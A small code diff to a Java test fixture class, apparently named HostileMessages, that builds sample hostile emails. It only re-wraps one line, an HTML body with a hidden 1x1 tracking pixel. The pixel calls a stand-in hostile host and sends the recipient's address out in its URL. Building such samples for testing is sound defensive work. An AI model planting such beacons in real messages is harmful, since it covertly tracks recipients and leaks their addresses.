@@ -192,8 +192,8 @@ public final class HostileMessages {
         }
         o.ascii(HEADERS).ascii("Message-ID: <padded@exemple-hostile.org>\r\n")
                 .ascii("Content-Type: text/html; charset=utf-8\r\n\r\n")
-                .ascii("<p>Bonjour</p><img src=\"https://pixel.exemple-hostile.org/open.gif?u=camille.durand@example.org\""
-                        + " width=\"1\" height=\"1\">\r\n");
+                .ascii("<p>Bonjour</p><img src=\"https://pixel.exemple-hostile.org/open.gif?"
+                        + "u=camille.durand@example.org\" width=\"1\" height=\"1\">\r\n");
         return o.toByteArray();
     }
 
